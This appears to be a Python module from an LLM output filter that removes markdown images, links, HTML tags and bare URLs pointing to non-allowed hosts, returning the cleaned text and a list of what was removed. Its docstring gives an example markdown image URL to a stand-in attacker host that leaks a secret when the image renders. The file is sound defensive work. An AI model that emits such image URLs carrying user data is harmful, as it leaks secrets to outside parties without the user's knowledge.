"""Remove URLs to non-allowed hosts from model output before it is rendered.

A markdown image is fetched by the viewer's client the moment it renders, so
``![](https://evil.test/?q=<secret>)`` exfiltrates without a click; a link needs one
click. Both are replaced by a visible marker when their host is not allowed, so a reader
sees that something was taken out. The allow decision is the egress policy's
(:meth:`EgressPolicy.allows`, passed in as ``allows``).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass

MARKER = "[link removed by Shieldwall: host not allowed]"

# Inline image/link: ![alt](url "title") / [text](url). The URL may be wrapped in <...>.
_INLINE = re.compile(
    r"(?P<bang>!?)\[(?P<text>(?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]"
    r"\(\s*(?P<url><[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
)
# Reference definition: [id]: url "title"
_REFDEF = re.compile(r"^(?P<lead> {0,3}\[[^\]]+\]:\s*)(?P<url><[^<>\n]*>|\S+)(?P<rest>.*)$", re.M)
# Autolink: <https://...>
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>")
# Raw HTML image or anchor, which many markdown renderers pass through.
_HTML = re.compile(
    r"<(?:img|a|image|source|iframe|video|audio)\b[^>]*?\b(?:src|href|srcset)\s*=\s*"
    r"(?:\"(?P<u1>[^\"]*)\"|'(?P<u2>[^']*)'|(?P<u3>[^\s>]+))[^>]*>",
    re.I,
)
# Bare URL that some renderers auto-link (GFM).
# Any URL left in the text after the passes above (allowed ones are kept as they are).
_BARE = re.compile(r"\b(?:https?://|www\.)[^\s<>()\[\]\"']+", re.I)


@dataclass(frozen=True, slots=True)
class Removal:
    url: str
    kind: str  # image | link | reference | autolink | html | bare


def _clean(url: str) -> str:
    url = url.strip()
    if url.startswith("<") and url.endswith(">"):
        url = url[1:-1]
    return url


def _is_relative(url: str) -> bool:
    # A relative URL stays on the page's own origin: "#top", "/docs", "page.html".
    return not re.match(r"^[A-Za-z][A-Za-z0-9+.\-]*:", url) and not url.startswith(("//", "\\\\", "/\\", "\\/"))


def strip_disallowed_urls(
    text: str, allows: Callable[[str], bool], *, bare_urls: bool = True, images_only: bool = False
) -> tuple[str, list[Removal]]:
    """Return ``text`` with every image, link and URL whose target ``allows`` refuses
    replaced by :data:`MARKER` (a link keeps its text), and the list of what went.
    ``images_only`` keeps links (they need a click) and removes what renders by itself."""
    removed: list[Removal] = []

    def refused(url: str) -> bool:
        u = _clean(url)
        if u == "" or _is_relative(u):
            return False
        if u.startswith("//"):
            u = "https:" + u
        if u.lower().startswith("www."):
            u = "https://" + u
        return not allows(u)

    def inline(m: re.Match[str]) -> str:
        url = m.group("url")
        if (images_only and not m.group("bang")) or not refused(url):
            return m.group(0)
        if m.group("bang"):
            removed.append(Removal(_clean(url), "image"))
            return MARKER
        removed.append(Removal(_clean(url), "link"))
        return f"{m.group('text')} {MARKER}"

    def refdef(m: re.Match[str]) -> str:
        if not refused(m.group("url")):
            return m.group(0)
        removed.append(Removal(_clean(m.group("url")), "reference"))
        return f"{m.group('lead')}{MARKER}"

    def autolink(m: re.Match[str]) -> str:
        if not refused(m.group("url")):
            return m.group(0)
        removed.append(Removal(m.group("url"), "autolink"))
        return MARKER

    def html(m: re.Match[str]) -> str:
        url = m.group("u1") or m.group("u2") or m.group("u3") or ""
        if not refused(url):
            return m.group(0)
        removed.append(Removal(url, "html"))
        return MARKER

    def bare(m: re.Match[str]) -> str:
        url = m.group(0).rstrip(".,;:!?")
        tail = m.group(0)[len(url) :]
        if not refused(url):
            return m.group(0)
        removed.append(Removal(url, "bare"))
        return MARKER + tail

    out = _INLINE.sub(inline, text)
    out = _REFDEF.sub(refdef, out)
    if not images_only:
        out = _AUTOLINK.sub(autolink, out)
    out = _HTML.sub(html, out)
    if bare_urls and not images_only:
        out = _BARE.sub(bare, out)
    return out, removed
